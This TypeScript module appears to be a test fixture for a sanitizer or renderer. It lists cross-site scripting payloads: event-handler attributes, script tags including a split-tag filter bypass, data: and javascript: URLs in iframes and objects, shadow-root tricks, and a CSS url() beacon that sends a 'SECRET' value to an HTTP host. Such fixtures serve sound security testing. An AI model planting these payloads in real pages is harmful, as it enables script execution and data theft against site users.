import type { Payload } from '../payload.ts';
import { act, html, pressed } from './shownMarkup.ts';

/** Markup that is code, or opens a document that is. */
export const outputActing: readonly Payload[] = [
	html('onerror', 'event attribute', (at) => `<img src="data:x" onerror="${act(at)}">`),
	html('onerror-slashes', 'event attribute', (at) => `<svg/onload=${act(at)}>`),
	html(
		'ontoggle',
		'event attribute',
		(at) => `<details open ontoggle="${act(at)}"><summary>x</summary></details>`
	),
	html('autofocus', 'autofocus', (at) => `<input autofocus onfocus="${act(at)}">`, {
		...pressed('input, .html')
	}),
	html(
		'contenteditable',
		'contenteditable',
		(at) => `<p contenteditable onfocus="${act(at)}">x</p>`,
		pressed('p')
	),
	html('script', 'script', (at) => `<script>${act(at)}</script>`),
	html(
		'script-split',
		'script',
		(at) => `<scr<script></script>ipt></scr</script>ipt><script>${act(at)}</script>`
	),
	html('script-data', 'script', (at) => `<script src="data:text/javascript,${act(at)}"></script>`),
	html(
		'data-document',
		'data: document',
		(at) => `<iframe src="data:text/html,<script>${act(at)}</script>"></iframe>`
	),
	html('iframe-javascript', 'javascript:', (at) => `<iframe src="javascript:${act(at)}"></iframe>`),
	html(
		'object-data',
		'data: document',
		(at) => `<object data="data:text/html,<script>${act(at)}</script>"></object>`
	),
	html(
		'shadow',
		'declarative shadow root',
		(at) => `<div><template shadowrootmode="open"><img src="data:x" onerror="${act(at)}"></template></div>`
	),
	html(
		'custom-element',
		'custom element',
		(at) => `<x-y is="z" tabindex="0" onclick="${act(at)}">x</x-y>`,
		pressed('x-y, .html')
	),
	html(
		'slot',
		'slot',
		({ http }) =>
			`<div><template shadowrootmode="open"><slot></slot><style>::slotted(p) { background: url(${http}?SECRET) }</style></template><p>x</p></div>`
	)
];
